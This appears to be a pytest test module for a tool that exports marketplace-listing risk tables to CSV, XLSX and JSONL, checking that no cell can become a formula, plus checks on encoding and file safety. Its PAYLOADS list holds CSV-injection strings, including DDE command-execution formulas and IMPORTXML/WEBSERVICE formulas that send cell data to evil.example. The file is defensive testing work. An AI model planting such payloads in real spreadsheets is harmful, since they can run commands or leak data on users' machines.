"""Tables for risk engines: what stands in them, and that no cell can act."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawler.home import Home
from evidence.risk_tables import COLUMNS, TableRefused, listing_rows, plain_cell, write_table
from storage.audit import AuditChain
from storage.cases import add_exhibit, open_case
from storage.database import Database
from tests.crawling import Place
from tests.review.seed import Offer, add_listing

PAYLOADS = [
    "=1+1", '=HYPERLINK("https://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1",
    "\n=1",
    "  =1+1", "\u00a0=1", "\uff1d1+1", "\u200b=1", "=cmd|'/c calc'!A1", "%0A=1", "|cmd", "'=1+1", '"=1+1', "\ufeff=1",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
]  # fmt: skip


def rows_of(database: Database, home: Home, *titles: str) -> list[dict]:
    with database.transaction() as session:
        for title in titles:
            add_listing(session, home, Offer(title=title, seller=title, location=title))
    with database.reading() as session:
        return list(listing_rows(session))


def test_no_cell_of_any_form_is_a_formula(database: Database, home: Home, tmp_path: Path) -> None:
    # SEC-22
    rows = rows_of(database, home, *PAYLOADS)
    assert write_table(rows, tmp_path / "t.csv", "csv") == len(PAYLOADS)
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        for row in list(csv.reader(file))[1:]:
            for cell in row:
                assert not cell.lstrip(" \u00a0\u200b\ufeff").startswith(("=", "+", "@", "\t", "\r", "|", "\uff1d"))
                assert not cell.startswith("-")
    write_table(rows, tmp_path / "t.xlsx", "xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert all(cell.data_type != "f" and cell.hyperlink is None for line in sheet.iter_rows() for cell in line)
    with zipfile.ZipFile(tmp_path / "t.xlsx") as package:
        assert not [name for name in package.namelist() if "externalLink" in name]
        assert b"<f>" not in b"".join(package.read(n) for n in package.namelist() if "sheet" in n)


def test_arabic_stands_as_it_was_and_each_column_is_there(database: Database, home: Home, tmp_path: Path) -> None:
    title = "تمثال فرعوني، مع شهادة"
    rows = rows_of(database, home, title)
    assert tuple(rows[0]) == COLUMNS
    for form in ("csv", "xlsx", "jsonl"):
        write_table(rows, tmp_path / f"t.{form}", form)
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        assert next(csv.DictReader(file))["title"] == title
    assert title in [cell.value for cell in list(openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows())[1]]
    assert json.loads((tmp_path / "t.jsonl").read_text("utf-8"))["title"] == title


def test_a_case_gives_its_listings_alone(database: Database, home: Home) -> None:
    with database.transaction() as session:
        listing, _ = (add_listing(session, home, Offer(title=t)) for t in ("one", "two"))
        case = open_case(session, AuditChain(), title="lamps", actor="amina")
        observation = listing.current_observation_id
        add_exhibit(session, AuditChain(), case=case, listing_id=listing.id, observation_id=observation, actor="amina")
        reference = case.reference
    with database.reading() as session:
        (row,) = listing_rows(session, case=reference)
        assert (row["title"], row["cases"]) == ("one", reference)
        assert len(list(listing_rows(session, flagged_only=True))) == 2


def test_a_file_that_is_there_stays(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("mine")
    with pytest.raises(TableRefused, match="is there already"):
        write_table([], tmp_path / "t.csv", "csv")
    assert (tmp_path / "t.csv").read_text() == "mine"
    with pytest.raises(TableRefused, match="cannot be written"):
        write_table([], tmp_path / "no" / "t.csv", "csv")


def test_the_command_writes_the_table_and_the_log_tells_of_it(place: Place, tmp_path: Path) -> None:
    rows_of(place.database, place.home, "=1+1")
    to = tmp_path / "t.xlsx"
    said = place.run("listings", "export", "--to", str(to), "--format", "xlsx", "--flagged")
    assert said.status == 0, said.err
    assert openpyxl.load_workbook(to).active.max_row == 2
    assert place.run("listings", "export", "--to", str(to), "--case", "none").status == 2


ACTING = "=+-@|%\u2212\uff1d\uff0b\uff0d\uff20\uff5c\uff05\ufe66\ufe62\ufe63\ufe6b\ufe6a"
BEFORE = st.text(" \u00a0\u2003\u200b\u200c\u200d\ufeff'\t\r\n\x00\x0b", max_size=4)


@given(BEFORE, st.sampled_from(ACTING), st.text(max_size=20))
def test_what_begins_a_formula_in_any_script_and_behind_anything_is_text(before: str, sign: str, rest: str) -> None:
    # SEC-22
    assert plain_cell(before + sign + rest).startswith("'")


@given(st.text(st.characters(exclude_characters=ACTING, categories=["L", "Nd", "Zs"]), max_size=60))
def test_words_and_numbers_stand_as_they_were(text: str) -> None:
    kept = "".join(sign for sign in text if sign == " " or sign.isprintable())
    assert plain_cell(text) == kept


def test_half_a_surrogate_ends_no_table(tmp_path: Path) -> None:
    row = dict.fromkeys(COLUMNS) | {"title": "lamp \ud800 of bronze"}
    for form in ("csv", "xlsx", "jsonl"):
        assert write_table([row], tmp_path / f"t.{form}", form) == 1
    assert json.loads((tmp_path / "t.jsonl").read_text("utf-8"))["title"] == "lamp \ud800 of bronze"


def test_a_table_that_fails_midway_leaves_no_file_and_can_be_asked_for_again(tmp_path: Path) -> None:
    row = dict.fromkeys(COLUMNS)

    def rows():
        yield row
        raise KeyError("a fault of the database")

    for form in ("csv", "xlsx", "jsonl"):
        to = tmp_path / f"t.{form}"
        with pytest.raises(KeyError):
            write_table(rows(), to, form)
        assert list(tmp_path.iterdir()) == []
        assert write_table([row], to, form) == 1
        to.unlink()


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_libreoffice_opens_the_tables_without_a_formula(form: str, tmp_path: Path) -> None:
    # SEC-22
    to = tmp_path / f"t.{form}"
    write_table([dict.fromkeys(COLUMNS) | {"title": text, "seller_as_shown": text} for text in PAYLOADS], to, form)
    made = [f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless", "--convert-to", "fods"]
    subprocess.run(["soffice", *made, "--outdir", str(tmp_path), str(to)], check=True, capture_output=True, timeout=240)
    flat = (tmp_path / "t.fods").read_text("utf-8")
    assert "table:formula" not in flat
    assert "HYPERLINK" in flat
